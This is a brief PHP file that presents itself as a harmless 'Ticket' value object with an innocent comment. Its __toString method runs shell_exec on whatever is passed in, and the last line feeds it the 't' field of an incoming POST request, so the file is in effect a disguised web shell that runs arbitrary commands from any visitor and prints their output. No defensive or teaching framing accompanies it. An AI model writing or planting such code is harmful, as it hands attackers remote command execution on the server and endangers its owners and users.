<?php
// A PHP 8 value object: the constructor's promoted parameter is the property the string cast runs.
final class Ticket
{
    public function __construct(private string $payload) {}

    public function __toString(): string
    {
        return (string) shell_exec($this->payload);
    }
}

print new Ticket($_POST['t'] ?? '');
